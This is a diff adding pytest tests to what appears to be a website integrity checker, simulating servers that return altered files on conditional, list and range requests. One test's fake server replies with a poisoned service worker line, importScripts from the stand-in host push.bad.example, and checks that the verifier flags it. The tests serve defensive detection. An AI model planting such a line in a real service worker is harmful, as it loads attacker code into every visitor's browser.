@@ -56,6 +56,47 @@ def test_a_copy_that_is_kept_wrongly_is_told(name: str, copy: Copy) -> None:
     assert words in told["conditional-differs", "index.html"]
 
 
+@pytest.mark.parametrize("name", ["sw.js", "truong.webmanifest"])
+@pytest.mark.parametrize("header", ["if-none-match", "if-modified-since"])
+def test_what_browsers_ask_for_again_by_themselves(name: str, header: str, copy: Copy) -> None:
+    """Every day: a worker that is poisoned for those alone who have it already stays with them."""
+    (copy.folder / name).write_text("{}\n", "utf-8")
+    copy.sign()
+
+    def twist(ask: Ask, reply: Reply) -> None:
+        reply.headers["Last-Modified"] = "Sun, 22 Nov 2026 00:00:00 GMT"
+        if ask.path == f"/{name}" and header in ask.headers:
+            reply.status, reply.body = 200, b"importScripts('https://push.bad.example/w.js')"
+
+    told = found(copy, "check_ways_of_asking", twist)
+    assert told.keys() == {("conditional-differs", name)} and "push.bad.example" in told["conditional-differs", name]
+
+
+@pytest.mark.parametrize(("old", "kind"), [(True, "rollback"), (False, "conditional-differs")])
+def test_another_list_for_those_who_have_one(old: bool, kind: str, copy: Copy) -> None:
+    copy.sign(serial=3)
+    older = (copy.folder / "integrity.json").read_bytes()
+    copy.sign()
+
+    def twist(ask: Ask, reply: Reply) -> None:
+        if ask.secret and "if-none-match" in ask.headers:
+            reply.status, reply.body = 200, older if old else b"{}"
+
+    with serving(files_of(copy.folder), twist, blind=False) as server:
+        site = site_at(server.server_port, copy)
+        site.client.listed["integrity.json"] = (copy.folder / "integrity.json").read_bytes()
+        verify.check_list_again(site)
+    assert site.report.found.keys() == {(kind, "integrity.json")}
+
+
+def test_a_download_that_was_cut_goes_on_with_other_bytes(copy: Copy) -> None:
+    def twist(ask: Ask, reply: Reply) -> None:
+        if "if-range" in ask.headers:
+            reply.status, reply.body = 206, BANNER.encode()
+
+    assert {kind for kind, _ in found(copy, "check_ways_of_asking", twist)} == {"range-differs"}
+
+
 def dated(value: str) -> Twist:
     """Files with a date, and no tag; who asks with an older date than it gets them, else 304."""
 
